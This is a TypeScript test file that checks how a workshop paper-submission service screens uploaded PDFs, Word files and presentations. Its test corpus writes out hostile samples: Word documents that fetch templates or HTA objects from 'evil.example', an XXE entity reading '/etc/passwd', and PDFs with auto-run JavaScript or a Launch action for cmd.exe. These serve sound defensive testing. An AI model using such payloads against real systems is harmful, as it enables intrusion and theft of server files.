import { PutObjectTaggingCommand } from '@aws-sdk/client-s3';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { PaperReviewContext } from '../../functions/paper-review/context.ts';
import { claim, LEASE_MS } from '../../shared/debts/debts.ts';
import { LONGEST_WAIT_MS, SCAN_TAG } from '../../shared/papers/malware.ts';
import { changePaper, PaperItem, readPaper } from '../../shared/papers/paper.store.ts';
import { type Attachment, MAX_FILE_BYTES, type Paper, type PaperFile } from '../../shared/papers/paper.ts';
import { readerApart } from '../../shared/papers/screening/apart.ts';
import { screened } from '../../shared/papers/screening/read-file.ts';
import { submitVersion } from '../../shared/papers/submission.ts';
import { PersonItem } from '../../shared/people/person.store.ts';
import { keys, randomToken } from '../../shared/store/keys.ts';
import { opensAt } from '../../shared/workshop/calendar.ts';
import { WorkshopItem } from '../../shared/workshop/workshop.store.ts';
import { BASE_URL } from '../support/browser-like.ts';
import { postFile, readFile, startDocuments } from '../support/documents.ts';
import { aDocx, aPdf } from '../support/files.ts';
import { aPaper, aPerson, aWorkshop, LINK_KEYS } from '../support/fixtures.ts';
import {
  aPptx,
  bomb,
  compound,
  docmTypes,
  docxWith,
  linkedDocx,
  nestedBomb,
  objectStream,
  ofManyParts,
  pdfBomb,
  pdfThenZip,
  pdfWith,
  zipWithPdfInside,
} from '../support/hostile-files.ts';
import { paperTask } from '../support/in-role.ts';
import { bengaliFont, madePdf, ofPages } from '../support/made-pdf.ts';
import { startTable } from '../support/table.ts';

let engine: Awaited<ReturnType<typeof startTable>>;
let files: Awaited<ReturnType<typeof startDocuments>>;
beforeAll(async () => {
  [engine, files] = await Promise.all([startTable(), startDocuments()]);
});
afterAll(async () => {
  await Promise.all([engine.stop(), files.stop()]);
});

const NOW = opensAt(aWorkshop().details);
const MINUTE = 60_000;
let workshopId: string;
let context: PaperReviewContext;
let told: string[];
beforeEach(async () => {
  told = [];
  workshopId = `w${randomToken()
    .toLowerCase()
    .replaceAll(/[^a-z0-9]/g, '')}`;
  context = {
    table: engine.table,
    documents: files.documents,
    readFile,
    malwareScan: false,
    mailer: {
      async send(mails) {
        told.push(...mails.map(({ text }) => text));
        return { sent: mails.length, already: 0, failed: 0, withheld: 0, unsettled: 0 };
      },
      async withhold() {},
    },
    linkKeys: LINK_KEYS,
    baseUrl: BASE_URL,
  };
  const workshop = aWorkshop({ id: workshopId });
  await engine.table.insert(WorkshopItem, keys.workshop(workshopId), workshop);
  await engine.table.insert(PersonItem, keys.person(workshopId, 'p1'), aPerson({ workshopId }));
});

/** Sends a file as a browser does, and hands it in. @throws Refusal as its author gets it */
async function handedIn(bytes: Buffer, fileName: string): Promise<PaperFile> {
  const place = { workshopId, personId: 'p1', id: 'paper-0000000001' };
  const form = await files.documents.uploadForm(place, { fileName });
  const reply = await postFile(form, bytes, fileName);
  if (reply.status !== 201) {
    // S3 itself refuses what is too large or empty, by the form's own policy; what got round it is refused by us.
    expect(reply.status).toBe(400);
    await files.put(form.fields.key ?? '', bytes);
  }
  // A presentation is no main text.
  const role = fileName.endsWith('.pptx') ? 'slides' : 'main';
  return files.documents.keepUpload(place, { key: form.fields.key ?? '', role, fileName });
}

/** A paper that was handed in with this file, which owes its screening. */
async function aPaperOf(file: PaperFile, attachments: Attachment[] = []): Promise<Paper> {
  const draft = aPaper({ workshopId, id: randomToken(), attachments });
  const paper = submitVersion(
    { workshop: aWorkshop({ id: workshopId }), person: {} },
    draft,
    { file, consent: true },
    NOW,
  );
  await engine.table.insert(PaperItem, keys.paper(workshopId, 'p1', paper.id), paper);
  return paper;
}

/** The sweep claims the debt if it is due, and the run goes as far as the screening. */
async function screenedAt(paper: Paper, at: number): Promise<string | undefined> {
  let debt: ReturnType<typeof claim>['claimed'][number] | undefined;
  await changePaper(engine.table, paper, (found) => {
    const claims = claim(found.debts, at);
    debt = claims.claimed[0];
    return { ...found, debts: claims.debts };
  });
  if (!debt) return undefined;
  const run = { workshopId, personId: 'p1', paperId: paper.id, debt };
  const task = (name: string) => paperTask(context, { task: name, run, step: {}, now: new Date(at).toISOString() });
  const { next } = await task('screen');
  if (next === 'refused') {
    await task('tell-authors');
    await task('settle');
  }
  return next;
}

const now = (paper: Paper) => readPaper(engine.table, workshopId, 'p1', paper.id);

interface Sample {
  readonly name?: string;
  readonly file: () => Buffer | Promise<Buffer>;
  /** What its author is told when it is handed in. */
  readonly atOnce?: RegExp;
  /** Where it is taken then: what screening finds. */
  readonly later?: string;
  /** What a good one counts. */
  readonly pages?: number;
}

const locked = (how: 'userPassword' | 'ownerPassword') => madePdf({ [how]: 'secret' });
const text = (words: string) => () => Buffer.from(words);

const CORPUS: Readonly<Record<string, Sample>> = {
  // Good ones
  'a plain PDF': { file: () => aPdf(), pages: 1 },
  'a PDF 1.3 of three pages': { file: () => madePdf({ pdfVersion: '1.3' }, ofPages(3)), pages: 3 },
  'a PDF 1.7 of forty pages': { file: () => madePdf({ pdfVersion: '1.7' }, ofPages(40)), pages: 40 },
  'a PDF 2.0': {
    file: async () => Buffer.from((await madePdf()).toString('latin1').replace('%PDF-1.3', '%PDF-2.0'), 'latin1'),
    pages: 1,
  },
  'a PDF in Bangla': {
    name: 'আলোচনাপত্র.pdf',
    file: () => madePdf({ lang: 'bn' }, (pdf) => pdf.font(bengaliFont()).text('সাইবার নিরাপত্তা বিষয়ে আলোচনাপত্র')),
    pages: 1,
  },
  'a PDF behind a byte order mark': { file: () => Buffer.concat([Buffer.from('\ufeff\n'), aPdf()]), pages: 1 },
  'a PDF with its objects in a stream': { file: () => pdfWith('', objectStream(9, '<< /A 1 >>')), pages: 1 },
  'a PDF with a data sheet attached': {
    file: () =>
      madePdf({}, (pdf) => {
        pdf.file(Buffer.from('a,b\n1,2\n'), { name: 'figures.csv' });
        pdf.text('x');
      }),
    pages: 1,
  },
  'a Word document that does not say how long it is': { file: () => aDocx() },
  'a Word document of twelve pages': {
    file: () => docxWith({ 'docProps/app.xml': '<Properties><Pages>12</Pages></Properties>' }),
    pages: 12,
  },
  'a Word document with a picture, a link and the template of its office': {
    file: () =>
      docxWith({
        'word/media/image1.png': new Uint8Array(200_000).map((_, n) => (n * 7919) % 251),
        'word/_rels/document.xml.rels':
          '<Relationships xmlns="x"><Relationship Id="a" Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/><Relationship Id="b" Type="http://x/relationships/attachedTemplate" Target="file:///C:\\Users\\me\\Office.dotx" TargetMode="External"/></Relationships>',
      }),
  },
  'a Word document with a table of Excel inside': {
    file: () => docxWith({ 'word/embeddings/a.xlsx': new Uint8Array(aDocx()) }),
  },
  'a presentation of five slides': { name: 'talk.pptx', file: () => aPptx(5), pages: 5 },
  'a Word document that is called .pdf': { name: 'report.pdf', file: () => aDocx() },

  // Nothing, too much, cut off
  'no bytes': { file: () => Buffer.alloc(0), atOnce: /empty/ },
  '25 MB and one byte': {
    file: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MAX_FILE_BYTES - 14), Buffer.from('%%EOF\n')]),
    atOnce: /25 MB/,
  },
  'a PDF cut off': { file: () => aPdf().subarray(0, 300), atOnce: /end of this PDF is missing/ },
  'a PDF cut off, with another end put to it': {
    file: () => Buffer.concat([aPdf().subarray(0, 30), Buffer.from('\n%%EOF\n')]),
    later: 'pdf-damaged',
  },
  'a PDF of nothing but its ends': { file: text('%PDF-1.7\n%%EOF\n'), later: 'pdf-damaged' },
  'a Word document cut off': { file: () => aDocx().subarray(0, 300), atOnce: /damaged/ },
  'a Word document with a bit flipped': {
    file: () => {
      const file = docxWith({ 'word/media/a.png': new Uint8Array(5000).map((_, n) => (n * 7919) % 251) });
      file[file.indexOf('word/media') + 200] = (file[file.indexOf('word/media') + 200] ?? 0) ^ 1;
      return file;
    },
    later: 'damaged',
  },

  // Other kinds
  'an old Word file': { name: 'a.doc', file: () => compound('WordDocument'), atOnce: /older Word file/ },
  'an old presentation': { name: 'a.ppt', file: () => compound('PowerPoint Document'), atOnce: /older PowerPoint/ },
  'an old table': { name: 'a.xls', file: () => compound('Workbook'), atOnce: /spreadsheet/ },
  'a table': {
    name: 'a.xlsx',
    file: () => docxWith({}, '<Override PartName="/a" ContentType="a.spreadsheetml.sheet.main+xml"/>'),
    atOnce: /spreadsheet/,
  },
  'an OpenDocument text': {
    name: 'a.odt',
    file: () => docxWith({ mimetype: 'application/vnd.oasis.opendocument.text' }),
    atOnce: /OpenDocument/,
  },
  'rich text': { name: 'a.rtf', file: text('{\\rtf1\\ansi Hello}'), atOnce: /rich text/ },
  'a photograph': { name: 'a.jpg', file: () => Buffer.from('ffd8ffe000104a464946', 'hex'), atOnce: /picture/ },
  'a program that is called a PDF': { name: 'a.pdf', file: text('MZ\u0090\u0000'), atOnce: /neither a PDF/ },
  'a web page that is called a PDF': { name: 'a.pdf', file: text('<script>1</script>'), atOnce: /neither a PDF/ },
  'any ZIP': { name: 'a.zip', file: () => docxWith({}, ''), atOnce: /no Word document/ },

  // Two kinds at once
  'a PDF with a ZIP behind it': { file: pdfThenZip, atOnce: /two kinds at once/ },
  'a ZIP with a PDF at its head': { file: zipWithPdfInside, atOnce: /two kinds at once/ },
  'a program with a PDF behind it': {
    file: () => Buffer.concat([Buffer.from('MZ\u0090\u0000 this is run'), aPdf()]),
    atOnce: /two kinds at once/,
  },
  'a web page with a PDF behind it': {
    file: () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), aPdf()]),
    atOnce: /two kinds at once/,
  },

  // Bombs
  'a document that unpacks to 600 MB, and says so': { file: () => bomb(600 * 1024 * 1024), later: 'unpacks-too-large' },
  'a document that unpacks to 600 MB, and says 1 KB': {
    file: () => bomb(600 * 1024 * 1024, 1024),
    later: 'unpacks-too-large',
  },
  'a bomb in a document in a document': { file: nestedBomb, later: 'unpacks-too-large' },
  'a document of 12,000 parts': { file: () => ofManyParts(12_000), atOnce: /unpacks to far more/ },
  'a PDF that unpacks to a gigabyte before it opens': { file: () => pdfBomb(1024 * 1024 * 1024), later: 'unreadable' },

  // What acts by itself, or is locked
  'a document with macros, as it says': { name: 'a.docm', file: () => docxWith({}, docmTypes), atOnce: /macros/ },
  'a document with macros, which it does not say': {
    file: () => docxWith({ 'word/vbaProject.bin': 'x' }),
    later: 'macros',
  },
  'a document with an ActiveX control': { file: () => docxWith({ 'word/activeX/a.xml': '<x/>' }), later: 'macros' },
  'a document that fetches its template': {
    file: () => linkedDocx('attachedTemplate', 'https://evil.example/a.dotm'),
    later: 'linked-content',
  },
  'a document that fetches its template, said in another way': {
    file: () => linkedDocx('attached&#x54;emplate', '\\\\evil.example\\a.dotm'),
    later: 'linked-content',
  },
  'a document that fetches an object': {
    file: () => linkedDocx('oleObject', 'http://evil.example/a.hta!'),
    later: 'linked-content',
  },
  'a document with a program inside': {
    file: () => docxWith({ 'word/embeddings/a.bin': Buffer.from('MZ\u0090\u0000', 'latin1') }),
    later: 'attached-program',
  },
  'a document with a program inside, in the shell of an object': {
    file: () =>
      docxWith({
        'word/embeddings/oleObject1.bin': Buffer.concat([
          compound('\u0001Ole10Native'),
          Buffer.from('MZ\u0090\u0000', 'latin1'),
        ]),
      }),
    later: 'attached-program',
  },
  'a document with a password': { file: () => compound('EncryptionInfo', 'EncryptedPackage'), atOnce: /password/ },
  'a document that reads a file of the server': {
    file: () =>
      aDocx({
        'word/document.xml':
          '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w">&e;</w:document>',
      }),
    later: 'damaged',
  },
  'a PDF with a password': { file: () => locked('userPassword'), later: 'pdf-password' },
  'a PDF that is protected': { file: () => locked('ownerPassword'), later: 'pdf-locked' },
  'a PDF with a script': {
    file: () => pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    later: 'pdf-script',
  },
  'a PDF with a script, under a name in disguise': {
    file: () => pdfWith('/AA << /WC 4 0 R >>', '<< /S /J#61vaScript /JS (1) >>'),
    later: 'pdf-script',
  },
  'a PDF with a script in a packed stream': {
    file: () => pdfWith('', objectStream(9, '<< /S /JavaScript /JS (1) >>')),
    later: 'pdf-script',
  },
  'a PDF that starts a program': {
    file: () => pdfWith('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'),
    later: 'pdf-script',
  },
  'a PDF with a program attached': {
    file: () =>
      madePdf({}, (pdf) => {
        pdf.file(Buffer.from('MZ'), { name: 'invoice.exe' });
        pdf.text('x');
      }),
    later: 'attached-program',
  },
  'a PDF with a program pinned to its page': {
    file: () =>
      madePdf({}, (pdf) => {
        pdf.text('x');
        // Its typings do not know it.
        const pin = (pdf as unknown as { fileAnnotation(...what: unknown[]): void }).fileAnnotation.bind(pdf);
        pin(50, 50, 20, 20, { src: Buffer.from('MZ'), name: 'invoice.exe' });
      }),
    later: 'attached-program',
  },
  'a PDF with a program attached under an innocent name': {
    file: () =>
      madePdf({}, (pdf) => {
        pdf.file(Buffer.from('MZ\u0090\u0000', 'latin1'), { name: 'figures.csv' });
        pdf.text('x');
      }),
    later: 'attached-program',
  },
  'a PDF of 201 pages': { file: () => madePdf({}, ofPages(201)), later: 'too-many-pages' },
};

describe.each(Object.entries(CORPUS))('given %s', (_, { name = 'paper.pdf', file, atOnce, later, pages }) => {
  test(atOnce
    ? 'then it is refused at once'
    : later
      ? `then screening says ${later}`
      : 'then it is taken', async () => {
    const bytes = await file();
    if (atOnce) {
      const says = { reason: 'invalid', fields: { file: expect.stringMatching(atOnce) } };
      await expect(handedIn(bytes, name)).rejects.toEqual(expect.objectContaining(says));
      return;
    }
    const paper = await aPaperOf(await handedIn(bytes, name));
    expect(await screenedAt(paper, NOW)).toBe(later ? 'refused' : 'acknowledge');
    const after = await now(paper);
    expect(after.refusedBecause).toBe(later);
    expect(after.versions[0]?.file.pages).toBe(pages);
    expect(after.events.at(-1)).toMatchObject(later ? { what: 'refused', why: later } : { what: 'passed' });
    expect(told).toHaveLength(later ? 1 : 0);
  }, 180_000);
});

test('given a name that turns around, then the name that is kept ends as what the file is', async () => {
  expect((await handedIn(aPdf(), 'annual\u202efdp.exe')).name).toBe('annualfdp.exe.pdf');
  expect((await handedIn(aDocx(), 'C:\\papers\\\u200freport.docm')).name).toBe('report.docx');
});

test('given the kept file is replaced after it was handed in, then it is not what was hashed, and is refused', async () => {
  const paper = await aPaperOf(await handedIn(aPdf('first'), 'paper.pdf'));
  await files.put(paper.versions[0]?.file.key ?? '', aPdf('other'));
  expect(await screenedAt(paper, NOW)).toBe('refused');
  expect((await now(paper)).refusedBecause).toBe('incomplete');
});

test('given a bad attachment, then the paper is refused, and its author is told which file it is about', async () => {
  const slides = await handedIn(docxWith({ 'word/vbaProject.bin': 'x' }), 'Annex B.docx');
  const paper = await aPaperOf(await handedIn(aPdf(), 'paper.pdf'), [{ ...slides, role: 'annex' }]);
  await screenedAt(paper, NOW);
  expect(await now(paper)).toMatchObject({ refusedBecause: 'macros', refusedDetail: { file: 'Annex B.docx' } });
  expect(told[0]).toContain('“Annex B.docx”');
  expect(told[0]).toContain('macros');
});

test('given a long annex, then only the main text is held to a number of pages; each file’s pages are kept', async () => {
  const annex = await handedIn(await madePdf({}, ofPages(230)), 'annex.pdf');
  const slides = await handedIn(aPptx(7), 'slides.pptx');
  const paper = await aPaperOf(await handedIn(aPdf(), 'paper.pdf'), [
    { ...annex, role: 'annex' },
    { ...slides, role: 'slides' },
  ]);
  await screenedAt(paper, NOW);
  const [version] = (await now(paper)).versions;
  expect([version?.file.pages, ...(version?.attachments ?? []).map((each) => each.pages)]).toEqual([1, 230, 7]);
});

describe('the thread that reads files', () => {
  const thread = (code: string) => new URL(`data:text/javascript,${encodeURIComponent(code)}`);
  const says = "import { parentPort } from 'node:worker_threads'; parentPort.postMessage({ ready: true });";

  test.each([
    ['never comes to an end', `${says} for (;;);`],
    ['takes all memory', `${says} const all = []; for (;;) all.push(new Array(1e6).fill(Math.random()));`],
    ['takes all memory outside of the heap', `${says} const all = []; for (;;) all.push(new Uint8Array(4e7).fill(1));`],
    ['breaks', `${says} setTimeout(() => { throw new Error('broken'); }, 50);`],
    ['goes away', `${says} process.exit(0);`],
  ])('given a file on which it %s, then that is a verdict, and the function lives on', async (_, code) => {
    const reader = readerApart(thread(code), { heap: 64, growth: 500 });
    expect(await reader(aPdf(), 'pdf', 2)).toEqual({ fault: 'unreadable' });
  });

  test('given it cannot even begin, then that is no verdict on a file', async () => {
    await expect(readerApart(thread("throw new Error('not here')"))(aPdf(), 'pdf')).rejects.toThrow('not here');
    await expect(readerApart(new URL('file:///nowhere.mjs'))(aPdf(), 'pdf')).rejects.toThrow();
  });
});

describe('given any bytes', () => {
  const good = async () => [aPdf(), aDocx(), aPptx(2), await madePdf({ pdfVersion: '1.7' }, ofPages(2))];

  test('then there is a verdict, and never an exception', async () => {
    const whole = await good();
    const from = fc.constantFrom(...whole);
    const cut = fc.tuple(from, fc.nat()).map(([file, at]) => file.subarray(0, at % file.length));
    const flipped = fc
      .tuple(from, fc.array(fc.tuple(fc.nat(), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 8 }))
      .map(([file, flips]) => {
        const copy = Buffer.from(file);
        for (const [at, bits] of flips) copy[at % copy.length] = (copy[at % copy.length] ?? 0) ^ bits;
        return copy;
      });
    const random = fc.uint8Array({ maxLength: 400 }).map((bytes) => Buffer.from(bytes));
    const dressed = random.map((bytes) => Buffer.concat([Buffer.from('%PDF-1.4\n'), bytes, Buffer.from('\n%%EOF')]));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(cut, flipped, random, dressed),
        fc.constantFrom('pdf', 'docx', 'pptx'),
        async (bytes, type) => {
          const screening = await screened(bytes, type);
          expect('fault' in screening || screening.pages === undefined || screening.pages > 0).toBe(true);
        },
      ),
      { numRuns: 400 },
    );
  }, 180_000);
});

describe('given files are scanned for malware', () => {
  const tagged = (paper: Paper, status: string) =>
    files.client.send(
      new PutObjectTaggingCommand({
        Bucket: 'documents',
        Key: paper.versions[0]?.file.key ?? '',
        Tagging: { TagSet: [{ Key: SCAN_TAG, Value: status }] },
      }),
    );
  beforeEach(() => {
    context = { ...context, malwareScan: true };
  });

  test('then a paper waits for the verdict, owing another look in a minute, and goes on when it is there', async () => {
    const paper = await aPaperOf(await handedIn(aPdf(randomToken()), 'paper.pdf'));
    expect(await screenedAt(paper, NOW)).toBe('wait');
    expect(await now(paper)).toMatchObject({ state: 'submitted', debts: { owed: { paper: { attempt: 0 } } } });
    expect(await screenedAt(paper, NOW + MINUTE - 1)).toBeUndefined();
    expect(await screenedAt(paper, NOW + MINUTE)).toBe('wait');
    await tagged(paper, 'NO_THREATS_FOUND');
    expect(await screenedAt(paper, NOW + 2 * MINUTE)).toBe('acknowledge');
    expect(await now(paper)).toMatchObject({ state: 'under-review' });
    expect((await now(paper)).events.at(-1)).not.toHaveProperty('why');
  });

  test('then what is harmful is refused, and nobody reads the file', async () => {
    const paper = await aPaperOf(await handedIn(aPdf(randomToken()), 'paper.pdf'));
    await tagged(paper, 'THREATS_FOUND');
    context = { ...context, readFile: () => Promise.reject(new Error('It was read.')) };
    expect(await screenedAt(paper, NOW)).toBe('refused');
    expect(told[0]).toContain('The virus scan found something harmful');
  });

  test.each([
    ['UNSUPPORTED', 0],
    ['FAILED', LONGEST_WAIT_MS],
    ['ACCESS_DENIED', LONGEST_WAIT_MS],
    [undefined, LONGEST_WAIT_MS],
  ])(
    'then without a verdict (%s) it goes to people, who are told so, after %i ms',
    async (status, waited) => {
      const paper = await aPaperOf(await handedIn(aPdf(randomToken()), 'paper.pdf'));
      if (status) await tagged(paper, status);
      let at = NOW;
      for (; at < NOW + waited; at += 10 * MINUTE) expect(await screenedAt(paper, at)).toBe('wait');
      expect(await screenedAt(paper, at)).toBe('acknowledge');
      const why = `not scanned for malware: ${status ?? 'none'}`;
      expect((await now(paper)).events.at(-1)).toMatchObject({ what: 'passed', why });
    },
    30_000,
  );

  test('then a file that is gone is asked for again, and a fault of S3 is none of the file’s', async () => {
    const file = await handedIn(aPdf(randomToken()), 'paper.pdf');
    const gone = await aPaperOf({ ...file, key: 'papers/nothing' });
    expect(await screenedAt(gone, NOW)).toBe('refused');
    expect((await now(gone)).refusedBecause).toBe('incomplete');
    const paper = await aPaperOf(file);
    context = {
      ...context,
      documents: { ...context.documents, scanStatus: () => Promise.reject(new Error('AccessDenied')) },
    };
    await expect(screenedAt(paper, NOW)).rejects.toThrow('AccessDenied');
    expect((await now(paper)).debts.owed.paper?.dueAt).toBe(new Date(NOW + LEASE_MS).toISOString());
  });
});
